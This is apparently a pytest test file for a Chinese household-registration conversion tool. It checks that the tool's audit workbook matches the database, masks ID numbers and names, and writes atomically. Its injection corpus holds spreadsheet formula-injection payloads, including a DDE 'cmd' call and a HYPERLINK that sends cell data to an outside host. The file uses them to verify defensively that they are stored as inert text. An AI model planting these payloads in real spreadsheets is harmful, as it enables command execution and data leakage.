"""The audit workbook, read back with openpyxl and checked against the database.

Rehearsal and cutover of the sample register on SQLite, PostgreSQL and MariaDB; the formula-injection
corpus; masking; text-typed identifiers; sheet rollover; the atomic write; the CLI; LibreOffice.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import stat
import subprocess
import zipfile
from collections import Counter
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet
from openpyxl.writer.excel import ExcelWriter
from sqlalchemy import Engine, select, update

from hukou_convert import __version__, schema, xlsx
from hukou_convert.cli import cli
from hukou_convert.codes import CATEGORY_LABELS, NATURE_LABELS, Action, Category, Nature
from hukou_convert.cutover import CutoverResult, rehearse, run_cutover
from hukou_convert.db import make_engine, parse_url
from hukou_convert.divisions import by_code
from hukou_convert.findings import Finding
from hukou_convert.idnumbers import mask_id, mask_name
from hukou_convert.ingest import import_applications, import_register
from hukou_convert.instants import CST
from hukou_convert.profiles import BUILTIN_PROFILES, resolve_cutoff
from hukou_convert.workbook import WorkbookResult, rewrite_report, write_run_workbook

from .conftest import SAMPLE
from .helpers import ident, person, write_register

ZHENHAI = BUILTIN_PROFILES["zhenhai"]
CUTOFF = resolve_cutoff(ZHENHAI, None)
R, H = schema.register, schema.history
SHEETS = ["概要", "分类汇总", "变更明细", "异常清单", "城乡统计"]
NATURES = [NATURE_LABELS[n] for n in Nature]

INJECTION = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"点击")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "#N/A",
    "#DIV/0!",
    "=cmd|' /C calc'!A0",
    "王\x01五",  # a character XML cannot hold: dropped, not a crash
]


# ---------------------------------------------------------------- reading back


def rows_of(ws: Worksheet) -> list[tuple[Any, ...]]:
    return [tuple(c.value for c in row) for row in ws.iter_rows()]


def table(ws: Worksheet, header_row: int = 1) -> list[dict[str, Any]]:
    """The filtered table of a sheet as dicts (rows below the autofilter range excluded)."""
    ref = ws.auto_filter.ref
    assert ref, f"{ws.title}: no autofilter"
    last = int("".join(ch for ch in ref.split(":")[1] if ch.isdigit()))
    header = [c.value for c in ws[header_row]]
    out = []
    for row in ws.iter_rows(min_row=header_row + 1, max_row=last):
        out.append(dict(zip(header, (c.value for c in row), strict=False)))
    return out


def summary(ws: Worksheet) -> dict[str, Any]:
    return {r["项目"]: r["内容"] for r in table(ws, header_row=4)}


def sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {
            n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")
        }


def assert_no_formula(path: Path) -> None:
    for name, xml in sheet_xml(path).items():
        assert "<f>" not in xml and "<f " not in xml, name


def detail_rows(wb: openpyxl.Workbook) -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    for name in wb.sheetnames:
        if name.startswith("变更明细"):
            out.extend(table(wb[name]))
    return out


def history_rows(engine: Engine, run_id: str) -> list[tuple[Any, ...]]:
    with engine.connect() as conn:
        return [
            tuple(r)
            for r in conn.execute(
                select(
                    H.c.record_id,
                    H.c.id_number,
                    R.c.name,
                    R.c.household_id,
                    H.c.division_code,
                    H.c.original_code,
                    H.c.original_nature,
                    H.c.household_category,
                )
                .join(R, R.c.record_id == H.c.record_id)
                .where(H.c.run_id == run_id, H.c.reverted_at.is_(None))
                .order_by(H.c.record_id)
            )
        ]


def check_files(written: WorkbookResult) -> None:
    path = written.path
    assert path.exists()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(written.sha256_path.stat().st_mode) == 0o600
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    assert written.sha256_path.read_text(encoding="utf-8") == f"{digest}  {path.name}\n"
    assert not [p for p in path.parent.iterdir() if p.name.startswith(".")]  # no temp file left
    assert_no_formula(path)


# ---------------------------------------------------------------- rehearsal and cutover


def check_workbook(engine: Engine, result: CutoverResult, written: WorkbookResult) -> list[Any]:
    """Every sheet against the database; returns the detail rows for comparison."""
    check_files(written)
    wb = openpyxl.load_workbook(written.path)
    assert wb.sheetnames == SHEETS
    census = result.census
    mode = "演练" if result.rehearsal else "正式"
    assert mode in written.path.name
    assert str(wb["概要"]["A1"].value).startswith(mode)
    s = summary(wb["概要"])
    assert s["模式"].startswith(mode)
    assert s["登记记录总数"] == census.total
    assert s["范围外"] == census.out_of_scope
    assert s["范围内非有效状态"] == census.inactive
    assert s["范围内有效"] == census.in_scope_active
    assert s["应转换" if result.rehearsal else "已转换"] == result.converted == census.to_convert
    assert s["已是居民户口"] == census.already_resident
    assert s["不在常住户口登记内"] == census.not_permanent
    assert s["异常"] == len(result.findings)
    assert s["变更明细行数"] == written.detail_rows == result.converted
    assert s["核验结论"] == "通过"
    assert s["登记库指纹 SHA-256"] == result.fingerprint and len(result.fingerprint) == 64
    assert s["截止时点"] == datetime(2016, 10, 1, 0, 0)
    assert isinstance(s["开始时间"], datetime)
    assert isinstance(s["结束时间"], datetime) and s["结束时间"] >= s["开始时间"]
    assert s["运行编号"] == (result.run_id if not result.rehearsal else "（演练无运行编号）")
    assert s["辖区"] == "宁波市镇海区（zhenhai）"
    assert s["政策文件"] == ZHENHAI.policy_document and "镇海" in s["政策文件"]
    assert s["范围（区划代码前缀）"] == "330211"
    assert s["工具版本"] == __version__
    assert s["数据库"] == engine.url.render_as_string(hide_password=True)
    assert s["个人信息"] == "已脱敏"

    # 变更明细: one row per converted record, identifiers as text cells, masked
    details = detail_rows(wb)
    ws = wb["变更明细"]
    for cell in ws[2]:
        if cell.column in (2, 4, 5, 7):
            assert cell.number_format == "@" and cell.data_type == "s"
    assert ws.cell(2, 12).is_date and ws.cell(2, 12).value == datetime(2016, 10, 1)
    assert ws.freeze_panes == "A2" and ws.print_title_rows == "$1:$1"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.paperSize == 9

    # 分类汇总: totals add up across and down and equal the counts
    breakdown = table(wb["分类汇总"])
    body, total = breakdown[:-1], breakdown[-1]
    assert total["区县代码"] == "合计"
    for row in breakdown:
        assert sum(row[f"{n}（人）"] for n in NATURES) == row["合计（人）"]
    for n in [*NATURES, "合计"]:
        assert sum(r[f"{n}（人）"] for r in body) == total[f"{n}（人）"]
    assert total["合计（人）"] == result.converted
    by_nature = Counter[Nature]()
    for (nature, _cat), k in result.converted_by.items():
        by_nature[nature] += k
    for nature in Nature:
        assert total[f"{NATURE_LABELS[nature]}（人）"] == by_nature[nature]
    assert {r["区县名称"] for r in body} == {"镇海区"}
    assert "（未知区划）" not in {r["乡镇（街道）名称"] for r in body}
    per_township = Counter(d["行政区划代码"][:9] + "000" for d in details)
    assert {r["乡镇（街道）代码"]: r["合计（人）"] for r in body} == per_township
    assert wb["分类汇总"]._charts  # the chart is there

    # 城乡统计 against the register and the division table
    divisions = by_code()
    not_permanent = [e.raw for e in census.codes.entries() if e.action is Action.NOT_PERMANENT]
    with engine.connect() as conn:
        codes = conn.execute(
            select(R.c.division_code).where(
                R.c.division_code.like("330211%"),
                R.c.status == "正常",
                R.c.hukou_type.notin_(not_permanent),
            )
        ).scalars()
        urban = Counter(divisions[c].is_urban for c in codes)
    stats = table(wb["城乡统计"])
    assert stats[-1]["区县代码"] == "合计"
    row = stats[0]
    assert (row["城镇人口（1xx）"], row["乡村人口（2xx）"]) == (urban[True], urban[False])
    assert row["户籍人口合计"] == census.in_scope_active - census.not_permanent
    assert row["户籍人口城镇化率"] == pytest.approx(urban[True] / (urban[True] + urban[False]))
    assert wb["城乡统计"].cell(2, 7).number_format == "0.00%"
    assert stats[-1]["户籍人口合计"] == row["户籍人口合计"]
    exceptions = table(wb["异常清单"])
    assert [(e["类别代码"], e["记录号"]) for e in exceptions] == [
        (f.code, f.record_id) for f in result.findings
    ]
    assert [e["公民身份号码"] for e in exceptions] == [
        mask_id(f.id_number) or None for f in result.findings
    ]
    return details


def test_rehearsal_and_cutover_workbooks_match_the_database(
    engine: Engine, sample_csv: Path, tmp_path: Path
) -> None:
    import_register(engine, sample_csv)
    import_applications(engine, SAMPLE / "zhenhai_applications.csv")
    out = tmp_path / "reports"
    rehearsal = rehearse(engine, ZHENHAI, CUTOFF)
    w1 = write_run_workbook(engine, rehearsal, out)
    rehearsed = check_workbook(engine, rehearsal, w1)

    result = run_cutover(engine, ZHENHAI, CUTOFF, batch_size=60)
    w2 = write_run_workbook(engine, result, out)
    assert w2.path != w1.path and "cutover" in w2.path.name and str(result.run_id) in w2.path.name
    converted = check_workbook(engine, result, w2)
    assert rehearsed == converted  # the rehearsal predicted every detail row

    history = history_rows(engine, str(result.run_id))
    assert len(converted) == len(history) == result.converted
    for row, (rid, number, name, household, division, code, nature, category) in zip(
        converted, history, strict=True
    ):
        assert row["记录号"] == rid
        assert row["公民身份号码"] == mask_id(number) and row["公民身份号码"] != number
        assert row["姓名"] == mask_name(name)
        assert row["户号"] == household
        assert row["行政区划代码"] == division
        assert row["原户口性质代码"] == code
        assert row["原户口性质"] == NATURE_LABELS[Nature(nature)]
        assert row["户别"] == (CATEGORY_LABELS[Category(category)] if category else None)
        assert row["新户口类别"] == "居民户口"
        assert row["生效时间（北京时间）"] == datetime(2016, 10, 1)
    assert converted[0]["原户口类别"] == "非农业家庭户口"
    assert len(converted[0]["公民身份号码"]) == 18 and "********" in converted[0]["公民身份号码"]

    # rewritten later from what the run recorded: the same content
    again = rewrite_report(engine, None, tmp_path / "later")
    assert again.path.name == w2.path.name
    assert detail_rows(openpyxl.load_workbook(again.path)) == converted


def test_rehearsal_predicts_an_approved_application(sqlite_url: str, tmp_path: Path) -> None:
    engine = make_engine(parse_url(sqlite_url))
    applicant = ident("330211", "19700101", 11)
    rows = [
        person(applicant, "2", name="申请甲"),
        person(ident("330211", "19700101", 13), "4", category="集体户", household="H2"),
    ]
    import_register(engine, write_register(tmp_path / "r.csv", rows))
    apps = tmp_path / "apps.csv"
    apps.write_text(
        "业务编号,公民身份号码,业务类型,申请时间,审批状态,审批时间\n"
        f"NZF-1,{applicant},农转非,2016-08-01 10:00,已批准,2016-09-20 15:00\n",
        encoding="utf-8",
    )
    import_applications(engine, apps)
    rehearsal = rehearse(engine, ZHENHAI, CUTOFF)
    predicted = detail_rows(
        openpyxl.load_workbook(write_run_workbook(engine, rehearsal, tmp_path / "a").path)
    )
    result = run_cutover(engine, ZHENHAI, CUTOFF)
    converted = detail_rows(
        openpyxl.load_workbook(write_run_workbook(engine, result, tmp_path / "b").path)
    )
    assert predicted == converted
    assert (converted[0]["原户口性质代码"], converted[0]["原户口性质"]) == ("1", "非农业")
    engine.dispose()


# ---------------------------------------------------------------- injection and masking


def _corpus_register(engine: Engine, tmp_path: Path) -> None:
    rows = [
        person(ident("330211", "19800101", 2 * i + 1), "2", household=f"H{i}", name=f"名{i}")
        for i in range(len(INJECTION))
    ]
    import_register(engine, write_register(tmp_path / "corpus.csv", rows))
    # Exactly these values in the register, whatever the import normalises.
    with engine.begin() as conn:
        ids = conn.execute(select(R.c.record_id).order_by(R.c.record_id)).scalars().all()
        for rid, text in zip(ids, INJECTION, strict=True):
            conn.execute(
                update(R).where(R.c.record_id == rid).values(name=text, household_id=text[:40])
            )


def test_injection_corpus_is_written_as_text(engine: Engine, tmp_path: Path) -> None:
    _corpus_register(engine, tmp_path)
    findings = [
        Finding("TEST", "错", "error", 1, ident("330211", "19800101", 1), text, text, text)
        for text in INJECTION
    ]
    result = run_cutover(engine, ZHENHAI, CUTOFF)
    masked = write_run_workbook(engine, result, tmp_path / "m", findings=findings)
    full = write_run_workbook(engine, result, tmp_path / "u", unmasked=True, findings=findings)
    expected = [xlsx.clean_text(t) for t in INJECTION]
    assert expected[-1] == "王五"
    for written in (masked, full):
        check_files(written)  # no <f> in any sheet
        xml = "".join(sheet_xml(written.path).values())
        assert 't="e"' not in xml  # nor an error value
        wb = openpyxl.load_workbook(written.path)
        details = detail_rows(wb)
        assert all(isinstance(r["姓名"], str) for r in details)
        names = [r["姓名"] for r in details]
        households = [r["户号"] for r in details]
        if written.unmasked:
            assert [n.replace("\n", "\r") for n in names] == expected
        else:
            assert names == [xlsx.clean_text(mask_name(t)) for t in INJECTION]
        assert [h.replace("\n", "\r") for h in households] == [t[:40] for t in expected]
        ws = wb["变更明细"]
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str) and xlsx.is_risky(cell.value):
                    assert cell.quotePrefix, cell.coordinate
        exceptions = table(wb["异常清单"])
        assert [e["说明"].replace("\n", "\r") for e in exceptions] == expected
        assert [e["处理"].replace("\n", "\r") for e in exceptions] == expected
        assert {e["类别"] for e in exceptions} == {"错"}
        assert {e["严重程度"] for e in exceptions} == {"错误"}
        number = ident("330211", "19800101", 1)
        shown = {e["公民身份号码"] for e in exceptions}
        assert shown == ({number} if written.unmasked else {mask_id(number)})
        assert summary(wb["概要"])["异常"] == len(INJECTION)
    assert "UNMASKED" in full.path.name and "UNMASKED" not in masked.path.name
    wb = openpyxl.load_workbook(full.path)
    assert summary(wb["概要"])["个人信息"] == "未脱敏"
    assert "未脱敏" in str(wb["概要"]["A2"].value)


def test_masking_rules() -> None:
    assert mask_id("330211198001010011") == "330211********0011"
    assert mask_name("张三") == "张*" and mask_name("张小三") == "张**"


# ---------------------------------------------------------------- rollover, atomicity, failures


def test_detail_rows_continue_on_further_sheets(
    sqlite_url: str, sample_csv: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    engine = make_engine(parse_url(sqlite_url))
    import_register(engine, sample_csv)
    result = run_cutover(engine, ZHENHAI, CUTOFF)
    whole = detail_rows(openpyxl.load_workbook(write_run_workbook(engine, result, tmp_path).path))
    monkeypatch.setattr(xlsx, "MAX_SHEET_ROWS", 100)  # header + 99 rows per sheet
    written = write_run_workbook(engine, result, tmp_path / "small")
    wb = openpyxl.load_workbook(written.path)
    n = result.converted
    parts = -(-n // 99)
    names = ["变更明细"] + [f"变更明细{i}" for i in range(2, parts + 1)]
    assert wb.sheetnames == ["概要", "分类汇总", *names, "异常清单", "城乡统计"]
    for name in names:
        ws = wb[name]
        assert ws.max_row <= 100 and ws["B1"].value == "公民身份号码"
        assert ws.auto_filter.ref == f"A1:L{ws.max_row}"
        assert ws.freeze_panes == "A2"
    assert detail_rows(wb) == whole and len(whole) == n
    assert summary(wb["概要"])["核验结论"] == "通过"
    engine.dispose()


def test_a_failed_write_leaves_no_file(
    sqlite_url: str, sample_csv: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    engine = make_engine(parse_url(sqlite_url))
    import_register(engine, sample_csv)
    result = rehearse(engine, ZHENHAI, CUTOFF)

    def broken(self: Any) -> None:
        self._archive.writestr("xl/half.xml", "half a file")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(ExcelWriter, "save", broken)
    out = tmp_path / "out"
    with pytest.raises(OSError):
        write_run_workbook(engine, result, out)
    assert list(out.iterdir()) == []
    engine.dispose()


def test_rehearsal_with_unmapped_codes_is_not_passed(sqlite_url: str, tmp_path: Path) -> None:
    engine = make_engine(parse_url(sqlite_url))
    rows = [
        person(ident("330211", "19800101", 1), "2"),
        person(ident("330211", "19800101", 3), "99", household="H2"),
        person(ident("330211", "19800101", 5), "1", division="330211999999", household="H3"),
    ]
    import_register(engine, write_register(tmp_path / "r.csv", rows))
    written = write_run_workbook(engine, rehearse(engine, ZHENHAI, CUTOFF), tmp_path / "out")
    assert not written.verdict_ok
    wb = openpyxl.load_workbook(written.path)
    s = summary(wb["概要"])
    assert s["核验结论"] == "不通过" and s["未映射的户口性质"] == 1
    assert s["核验：无未映射的户口性质（正式转换可以开始）"] == "不通过"
    names = {r["乡镇（街道）名称"] for r in table(wb["分类汇总"])[:-1]}
    assert "（未知区划）" in names
    stats = table(wb["城乡统计"])
    assert stats[-1]["城乡属性不明"] == 1
    engine.dispose()


# ---------------------------------------------------------------- the command line


def test_cli_writes_the_workbooks(sqlite_url: str, sample_csv: Path, tmp_path: Path) -> None:
    runner = CliRunner()

    def run(*args: str) -> str:
        result = runner.invoke(cli, [*args, "--db", sqlite_url], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return result.stdout

    run("import", str(sample_csv))
    out = run("cutover", "-p", "zhenhai", "--dry-run", "-q", "--out", str(tmp_path / "a"))
    (rehearsal,) = (tmp_path / "a").glob("*.xlsx")
    assert str(rehearsal) in out and "rehearsal-演练" in rehearsal.name and "通过" in out
    out = run("cutover", "-p", "zhenhai", "--yes", "-q", "--out", str(tmp_path / "b"))
    (cutover,) = (tmp_path / "b").glob("*.xlsx")
    assert "cutover-正式" in cutover.name and str(cutover) in out
    out = run("report", "--out", str(tmp_path / "c"), "--unmasked", "-q")
    (again,) = (tmp_path / "c").glob("*.xlsx")
    assert again.name == cutover.name.replace(".xlsx", "-UNMASKED.xlsx") and "UNMASKED" in out
    assert (tmp_path / "c" / (again.name + ".sha256")).exists()
    # the default directory is ./reports
    run("report", "-q")
    assert len(list(Path("reports").glob("*.xlsx"))) == 1
    engine = make_engine(parse_url(sqlite_url))
    with engine.connect() as conn:
        numbers = conn.execute(select(R.c.id_number)).scalars().all()
    assert not any(n in out for n in numbers if n)  # no ID number printed
    engine.dispose()


def test_report_of_an_unknown_run_fails(sqlite_url: str, sample_csv: Path) -> None:
    runner = CliRunner()
    runner.invoke(cli, ["import", str(sample_csv), "--db", sqlite_url])
    runner.invoke(cli, ["cutover", "-p", "zhenhai", "--yes", "-q", "--db", sqlite_url])
    result = runner.invoke(cli, ["report", "--run", "R-nope", "--db", sqlite_url])
    assert result.exit_code == 5 and "no run 'R-nope'" in result.stderr


# ---------------------------------------------------------------- a real spreadsheet application


def test_libreoffice_opens_the_workbook(sqlite_url: str, sample_csv: Path, tmp_path: Path) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None or shutil.which("pdftotext") is None:
        message = "LibreOffice (soffice) or pdftotext missing: apt-get install libreoffice-calc poppler-utils"
        if os.environ.get("CI") == "true":
            pytest.fail(message)
        pytest.skip(message)
    engine = make_engine(parse_url(sqlite_url))
    import_register(engine, sample_csv)
    written = write_run_workbook(engine, rehearse(engine, ZHENHAI, CUTOFF), tmp_path / "out")
    engine.dispose()
    pdf_dir = tmp_path / "pdf"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(pdf_dir),
            str(written.path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    pdf = pdf_dir / written.path.with_suffix(".pdf").name
    assert pdf.exists() and pdf.stat().st_size > 1000
    text = subprocess.run(
        ["pdftotext", str(pdf), "-"], check=True, capture_output=True, text=True
    ).stdout
    assert "演练 REHEARSAL" in text
    for sheet in SHEETS:
        assert sheet in text  # the footer names the sheet on every page
    assert "330211********" in text and "通过" in text


def _rows_files() -> set[str]:
    import tempfile

    return {p for p in os.listdir(tempfile.gettempdir()) if p.startswith("hukou-")}


def test_table_rows_written_as_xml_read_back_exactly(tmp_path: Path) -> None:
    """The rows below a header are written as sheet XML by the tool (sheetrows.py): read back by
    openpyxl they are the cells openpyxl itself would have written, and no temporary file stays."""
    from datetime import date

    from hukou_convert.instants import CST

    columns = [
        xlsx.Column("文本", 12),
        xlsx.Column("代码", 10, "code"),
        xlsx.Column("人数", 8, "int"),
        xlsx.Column("时间", 20, "datetime"),
        xlsx.Column("比例", 8, "percent"),
    ]
    rows: list[list[object]] = [
        ["  前后空格 ", "0012", 1234, datetime(2016, 10, 1, 0, 0, tzinfo=CST), 0.5],
        ["a&b<c>d\re", "=1+1", -5, date(2016, 9, 30), None],
        ["", None, 0, None, 1.0],
        ["@x", "-1", 10**15, datetime(2016, 9, 30, 23, 59, 59, tzinfo=CST), 0.123456789012345],
        # what XML cannot hold is dropped; a date in a code column is text; NaN is no value
        ["王\uffff五\ud800", date(2016, 9, 30), 7, None, float("nan")],
    ]
    before = _rows_files()

    def build(wb: Any) -> None:
        table = xlsx.TableWriter(wb, "表", columns, xlsx.PageSetup("测试"))
        for row in rows:
            table.append(row)
        table.append_total(["合计", None, 1236, None, None])
        table.finish()
        table.append_below(["注：以上为测试", None, None, None, None])

    _, saved = xlsx.write_workbook(tmp_path / "t.xlsx", build)
    assert _rows_files() == before
    assert_no_formula(saved.path)
    ws = openpyxl.load_workbook(saved.path)["表"]
    assert ws.auto_filter.ref == "A1:E7" and ws.freeze_panes == "A2"
    got = [[c.value for c in r] for r in ws.iter_rows(min_row=2, max_row=8)]
    assert got[0] == ["  前后空格 ", "0012", 1234, datetime(2016, 10, 1, 0, 0), 0.5]
    assert got[1] == ["a&b<c>d\re", "=1+1", -5, datetime(2016, 9, 30, 0, 0), None]
    assert got[2] == [None, None, 0, None, 1]
    assert got[3] == ["@x", "-1", 10**15, datetime(2016, 9, 30, 23, 59, 59), 0.123456789012345]
    assert got[4] == ["王五", "2016-09-30", 7, None, None]
    assert ws["B6"].data_type == "s" and ws["B6"].number_format == "@"
    assert got[5] == ["合计", None, 1236, None, None]
    assert got[6] == ["注：以上为测试", None, None, None, None]
    first, risky = ws[2], ws[3]
    assert [c.number_format for c in first] == [
        "General",
        "@",
        "#,##0",
        "yyyy-mm-dd hh:mm:ss",
        "0.00%",
    ]
    assert first[1].data_type == "s" and not first[1].quotePrefix
    assert risky[1].data_type == "s" and risky[1].quotePrefix and risky[1].number_format == "@"
    assert ws["A5"].quotePrefix and ws["B5"].quotePrefix  # "@x" and "-1" typed as text
    assert ws["C3"].data_type == "n" and ws["D3"].is_date
    assert ws["A7"].font.b and ws["C7"].font.b  # the total row in bold

    def failing(wb: Any) -> None:
        table = xlsx.TableWriter(wb, "表", columns, xlsx.PageSetup("测试"))
        table.append(rows[0])
        raise RuntimeError("disk gone")

    with pytest.raises(RuntimeError):
        xlsx.write_workbook(tmp_path / "f.xlsx", failing)
    assert _rows_files() == before and not (tmp_path / "f.xlsx").exists()


_CELL_VALUES = st.one_of(
    st.none(),
    st.text(),
    st.text(alphabet="=+-@#＝＋－＠ \t\r\n&<>王五\uffff\ud800a1", max_size=6),
    st.sampled_from(["#N/A", "#DIV/0!", " x", "x ", "\u3000x", "", "330211001001", "居民户口"]),
    st.sampled_from([f"{prefix}x" for prefix in xlsx.RISKY_PREFIXES]),
    # space a strip() removes beyond ASCII; past the length a cell holds; not a plain str
    st.sampled_from(["x\u3000", "\xa0x", "x\x85", "a" * 32_768, " " + "a" * 32_767, "b" * 65]),
    st.sampled_from([Nature.AGRICULTURAL, Category.FAMILY, [1], ("元组",)]),
    # the repeated hour of a zone: equal, an hour apart
    st.sampled_from(
        [
            datetime(2023, 11, 5, 1, 30, tzinfo=ZoneInfo("America/New_York"), fold=fold)
            for fold in (0, 1)
        ]
    ),
    st.integers(-(10**16), 10**16),
    st.booleans(),
    st.floats(allow_nan=True, allow_infinity=True),
    st.dates(),
    st.datetimes(timezones=st.sampled_from([None, UTC, CST])),
)


@settings(max_examples=300, deadline=None)
@given(
    kind=st.sampled_from(["text", "code", "int", "datetime", "percent"]),
    values=st.lists(_CELL_VALUES, max_size=12),
)
def test_cells_written_fast_are_the_cells_of_the_general_path(
    kind: xlsx.Kind, values: list[object]
) -> None:
    """A table's rows take a fast path (ordinary text written as it is, repeated text and instants
    rendered once per column): every cell is the one the general path writes, in any order of
    values, repeats included (True is not 1 to the cache, nor a date its midnight)."""
    ws = openpyxl.Workbook(write_only=True).create_sheet("t")
    cells = xlsx._ColumnCells(ws, xlsx.Column("列", 10, kind))
    for value in [*values, *values]:
        general = cells.xml("", value)
        assert cells.tail(value) == general[len('<c r=""') :], repr(value)


def _two_sheet_table(wb: Any) -> None:
    table = xlsx.TableWriter(wb, "表", [xlsx.Column("记录号", 8, "int")], xlsx.PageSetup("测试"))
    for n in range(1, 6):
        table.append([n])
    table.finish()


def test_rows_streamed_into_the_archive_as_zip64_read_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A sheet too large for a plain ZIP entry (here: the limit lowered) is stored as ZIP64, and
    its rows are all there; each table sheet's rows file is used and removed."""
    monkeypatch.setattr(xlsx, "MAX_SHEET_ROWS", 4)  # rows on 表 and 表2: two rows files
    monkeypatch.setattr(zipfile, "ZIP64_LIMIT", 100)
    before = _rows_files()
    _, saved = xlsx.write_workbook(tmp_path / "z.xlsx", _two_sheet_table)
    assert _rows_files() == before
    with zipfile.ZipFile(saved.path) as archive:
        assert archive.testzip() is None
    wb = openpyxl.load_workbook(saved.path)
    values = [c.value for name in ("表", "表2") for (c,) in wb[name].iter_rows(min_row=2)]
    assert values == [1, 2, 3, 4, 5]


def test_a_failure_while_the_rows_stream_into_the_archive_leaves_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = _rows_files()

    def disk_full(*_args: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(shutil, "copyfileobj", disk_full)
    with pytest.raises(OSError, match="No space"):
        xlsx.write_workbook(tmp_path / "f.xlsx", _two_sheet_table)
    assert _rows_files() == before and not list(tmp_path.iterdir())


def test_a_sheet_stored_without_its_rows_is_an_error_not_an_empty_table(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Should openpyxl store a sheet some other way than through ZipFile.write, the save fails
    rather than writing a workbook whose tables hold their headers only."""
    from hukou_convert import sheetrows

    monkeypatch.setattr(sheetrows.SplicingZipFile, "write", zipfile.ZipFile.write)
    before = _rows_files()
    with pytest.raises(AssertionError, match="without their rows"):
        xlsx.write_workbook(tmp_path / "e.xlsx", _two_sheet_table)
    assert _rows_files() == before and not list(tmp_path.iterdir())
